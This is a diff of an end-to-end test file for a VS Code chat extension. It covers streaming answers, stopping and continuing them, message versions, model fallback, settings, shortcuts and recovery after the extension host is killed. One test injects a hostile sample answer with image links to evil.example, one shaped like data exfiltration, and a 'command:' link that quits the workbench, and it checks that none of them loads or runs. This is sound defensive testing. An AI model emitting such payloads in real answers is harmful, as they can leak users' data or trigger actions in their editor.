@@ -1,132 +1,195 @@
+/** A chat from its first message to the crash of the editor. What the page alone shows is tested in test/pages. */
 import assert from 'node:assert/strict';
-import path from 'node:path';
 import type { FrameLocator } from 'playwright-core';
 import { until } from '../../until.ts';
+import { killExtensionHost } from '../extension-host-process.ts';
 import { filesHolding, openWorld, shot, type World } from '../session.ts';
+
+const CHAT = '/v1/chat/completions';
 
 describe('chat', () => {
   let world: World;
   let chat: FrameLocator;
   before(async () => {
-    world = await openWorld({ signedIn: true, settings: { 'switchyard.chat.model': 'anthropic/claude-haiku-4.5' } });
+    world = await openWorld({
+      signedIn: true,
+      settings: { 'switchyard.chat.model': 'anthropic/claude-haiku-4.5', 'switchyard.chat.budget': 0.0001 },
+    });
+  });
+  after(() => world?.end());
+  beforeEach(async () => {
     await world.ui.runCommand('Switchyard: Open Chat in Editor');
     chat = await world.ui.webview('panel');
     await message().waitFor();
   });
-  after(() => world?.end());
 
   const message = () => chat.getByRole('textbox', { name: 'Message' });
   const answers = () => chat.locator('chat-turn[data-turn="answer"]');
-  const said = (text: string) => chat.locator('[role=status]', { hasText: text });
+  const prompts = () => chat.locator('chat-turn[data-turn="prompt"]');
   const last = () => answers().last();
+  const textOf = async () => (await last().locator('.answer-text').textContent()) ?? '';
+  const fail = (effect: Parameters<World['service']['faults']['add']>[0]['effect']) =>
+    world.service.faults.add({ effect, path: CHAT });
 
-  async function send(text: string): Promise<void> {
-    await message().fill(text);
-    await message().press('Enter');
-  }
-
-  /** Sends a message and waits for the answer, which `last()` then returns. */
+  /** Sends a message and waits for the beginning of the answer, which `last()` then returns. */
   async function ask(text: string): Promise<void> {
     const count = await answers().count();
-    await send(text);
+    await message().fill(text);
+    await message().press('Enter');
     await until('the answer', async () => (await answers().count()) > count);
   }
 
-  /** Makes sure that the chat has at least one complete answer. */
-  async function answered(): Promise<void> {
-    if ((await answers().count()) === 0) await ask('Say hello');
+  /** Sends a message and waits for the complete answer. */
+  async function answered(text: string): Promise<void> {
+    await ask(text);
     await last().locator('.turn-tools').waitFor();
   }
 
-  it('opens beside the editor and says how to begin', async () => {
-    await chat.locator('.model-name', { hasText: 'anthropic/claude-haiku-4.5' }).waitFor();
-    await shot(world.ui.page, 'chat-empty');
-  });
+  /** Asks for an answer without an end, and waits for its first words. */
+  async function askForever(): Promise<void> {
+    fail({ kind: 'stream', how: 'endless', ms: 20 });
+    await ask('Count to infinity');
+    await last().locator('.answer-text p').first().waitFor();
+  }
 
-  it('streams an answer as Markdown', async () => {
-    await send('Compare three ways to retry a request, in a table');
-    await said('is responding').waitFor({ state: 'attached' });
-    await said('The response is complete.').waitFor({ state: 'attached' });
+  it('streams an answer as Markdown, with its cost, and warns above the budget', async () => {
+    await answered('Compare three ways to retry a request, in a table');
     await last().locator('table').waitFor();
     await last().locator('.code code').waitFor();
     assert.equal(await message().inputValue(), '');
+    for (const cost of [last().locator('.turn-cost'), chat.locator('.chat-cost')])
+      await cost.filter({ hasText: /tokens · 0\.\d+/ }).waitFor();
+    await chat.locator('.banner.budget').waitFor();
     await shot(world.ui.page, 'chat-answer');
   });
 
-  it('stops an answer and keeps the text so far', async () => {
-    world.service.faults.add({ effect: { kind: 'stream', how: 'endless', ms: 20 }, path: '/v1/chat/completions' });
-    await ask('Count to infinity');
-    await last().locator('.answer-text p').first().waitFor();
+  it('stops an answer, and continues it where it ended', async () => {
+    await askForever();
     await message().press('Escape');
     await last().getByText('You stopped this response.').waitFor();
-    assert.match((await last().locator('.answer-text').textContent()) ?? '', /You asked/);
+    const before = await textOf();
+    await last().locator('[data-action=continue]').click();
+    await until('more of the answer', async () => (await textOf()).length > before.length);
+    await last().locator('.turn-tools').waitFor();
+    assert.ok((await textOf()).startsWith(before.slice(0, 20)));
   });
 
-  it('marks an interrupted answer, keeps its text, and offers to continue', async () => {
-    world.service.faults.add({ effect: { kind: 'stream', how: 'cut' }, path: '/v1/chat/completions' });
-    await ask('Tell me a story');
-    await last().getByText('This response is incomplete.').waitFor();
-    await last().getByText('Try Again').waitFor();
-    await shot(world.ui.page, 'chat-incomplete');
+  it('edits a message and keeps the original, with a switch between both', async () => {
+    await answered('Explain what a queue is');
+    const count = await prompts().count();
+    await message().press('ArrowUp');
+    await until('the question in the composer', async () => (await message().inputValue()).startsWith('Explain what'));
+    await message().fill('Compare retry strategies for HTTP requests in a table');
+    await message().press('Enter');
+    await last().locator('.answer-text', { hasText: 'Compare' }).waitFor();
+    await last().locator('.turn-tools').waitFor();
+    assert.equal(await prompts().count(), count);
+    await prompts().last().getByLabel('Previous Version').click();
+    await prompts().last().locator('.prompt-text', { hasText: 'queue' }).waitFor();
+    await prompts().last().getByLabel('Next Version').click();
+    await prompts().last().locator('.prompt-text', { hasText: 'Compare' }).waitFor();
+    await shot(world.ui.page, 'chat-versions');
   });
 
-  it('says what to do when the balance is 0 or below', async () => {
-    world.service.faults.add({ effect: { kind: 'status', status: 402 }, path: '/v1/chat/completions' });
-    await ask('One more');
-    await last().getByText('balance is 0 or below', { exact: false }).waitFor();
-    await shot(world.ui.page, 'chat-balance');
+  it('offers another model when the service has no such model', async () => {
+    // Before the first answer, a 404 could mean that the service has no such path, and the other path would be tried.
+    await answered('Hello');
+    fail({ kind: 'status', status: 404 });
+    await ask('Is anybody there?');
+    await last().getByText('Choose Another Model').click();
+    await world.ui.input.fill('claude-sonnet');
+    await world.ui.page.keyboard.press('Enter');
+    await last().locator('.answer-model', { hasText: 'anthropic/claude-sonnet-4.5' }).waitFor();
+    await last().locator('.turn-tools').waitFor();
   });
 
-  it("loads no URL in a model's answer", async () => {
-    const asked: string[] = [];
-    world.ui.page.on('request', (request) => asked.push(request.url()));
-    const text =
+  it('sends the chat settings with a message', async () => {
+    await chat.locator('[data-action=settings]').click();
+    await chat.getByLabel('System prompt').fill('Answer in one sentence.');
+    await chat.getByLabel('Max output tokens').fill('40');
+    await chat.getByLabel('Max output tokens').blur();
+    await message().click();
+    await ask('Hello');
+    await last().getByText('reached its length limit').waitFor();
+    await chat.getByLabel('Max output tokens').fill('');
+    await chat.getByLabel('Max output tokens').blur();
+    await chat.locator('[data-action=settings]').click();
+  });
+
+  it('loads and runs nothing that an answer contains, by the policy of the page in the real workbench', async () => {
+    const foreign: string[] = [];
+    const refused: string[] = [];
+    world.ui.page.on('request', (request) => foreign.push(...(/evil/.test(request.url()) ? [request.url()] : [])));
+    world.ui.page.on('console', (line) => refused.push(...(/evil/.test(line.text()) ? [line.text()] : [])));
+    const content =
       '![x](https://evil.example/?d=1) <img src="https://evil.example/2"> [go](command:workbench.action.quit) [ok](https://example.com/a)';
-    world.service.faults.add({
-      effect: {
-        kind: 'body',
-        body: { choices: [{ message: { role: 'assistant', content: text }, finish_reason: 'stop' }] },
-      },
-      path: '/v1/chat/completions',
-    });
+    fail({ kind: 'body', body: { choices: [{ message: { role: 'assistant', content }, finish_reason: 'stop' }] } });
     await ask('Show me a picture');
     await last().locator('a[href="https://example.com/a"]').waitFor();
     assert.equal(await last().locator('img, a[href^="command"]').count(), 0);
-    assert.deepEqual(
-      asked.filter((url) => url.includes('evil.example')),
-      [],
-    );
-    await shot(world.ui.page, 'chat-hostile');
+    assert.deepEqual([foreign, refused], [[], []]);
+    await chat.locator('body').evaluate((body) => {
+      const image = body.ownerDocument.createElement('img');
+      image.src = 'https://evil.example/witness';
+      body.append(image);
+    });
+    await until('the policy to block an image', () => refused.some((line) => /content security policy/i.test(line)));
   });
 
-  it('opens in the secondary side bar with the same messages and draft', async () => {
-    await answered();
+  it('has keyboard shortcuts to move between code, to stop, and for a new chat', async () => {
+    await answered('Compare three ways to retry a request, in a table');
+    await message().press('Control+Alt+PageUp');
+    await until('the code block to have the focus', () =>
+      last().evaluate(() => document.activeElement?.closest('.code') !== null),
+    );
+    await askForever();
+    const stopped = last().getByText('You stopped this response.');
+    // The workbench enables the key binding shortly after the first words of an answer.
+    await until('the response to stop', async () => {
+      await message().press('Control+Escape');
+      return stopped.waitFor({ timeout: 500 }).then(
+        () => true,
+        () => false,
+      );
+    });
+    await message().press('Control+N');
+    await until('the empty chat', async () => (await chat.locator('chat-turn').count()) === 0);
+  });
+
+  it('is the same in the secondary side bar, with its draft', async () => {
+    await answered('Say hello');
     await message().fill('a draft that must not be lost');
     await world.ui.runCommand('Switchyard: Open Chat');
     const view = await world.ui.webview('view');
-    await view.locator('chat-turn[data-turn="answer"]').first().waitFor();
+    await view.locator('chat-turn[data-turn="answer"]').last().waitFor();
     const twin = view.getByRole('textbox', { name: 'Message' });
-    await until(
-      'the draft in the other chat',
-      async () => (await twin.inputValue()) === 'a draft that must not be lost',
-    );
+    await until('the draft', async () => (await twin.inputValue()) === 'a draft that must not be lost');
     await shot(world.ui.page, 'chat-both');
   });
 
-  it('shows the same chat, with its draft, after a reload', async () => {
+  it('loses neither the draft nor more than the last second of an answer when the extension host is killed', async () => {
+    const { ui, workbench } = world;
+    const letters = async () => (await textOf()).replace(/[^\p{L}]/gu, '');
     const draft = 'a draft that must outlive the window';
-    await answered();
-    const before = await answers().count();
     await message().fill(draft);
-    const stored = path.join(world.workbench.root, 'user-data');
-    await until('the draft to be stored', () => filesHolding(draft, stored).length > 0);
-    await world.ui.page.reload();
-    await world.ui.ready();
-    chat = await world.ui.webview('panel');
-    await answers()
-      .nth(before - 1)
-      .waitFor();
-    assert.equal(await answers().count(), before);
+    await until('the draft to be stored', () => filesHolding(draft, workbench.root).length > 0);
+    await message().fill('');
+    await askForever();
+    await message().fill(draft);
+    const [then, text] = [Date.now(), await letters()];
+    await until(
+      'a second of text more',
+      async () => Date.now() - then > 1000 && (await letters()).length > text.length,
+    );
+    killExtensionHost();
+    await ui.page.reload();
+    await ui.ready();
+    chat = await ui.webview('panel');
+    await last().getByText('VS Code was closed before this response was complete.').waitFor();
     await until('the draft', async () => (await message().inputValue()) === draft);
+    await message().fill('');
+    assert.ok((await letters()).startsWith(text), `${text.length} characters became ${(await letters()).length}`);
+    await last().locator('[data-action=continue]').click();
+    await last().locator('.problem').waitFor({ state: 'detached' });
   });
 });
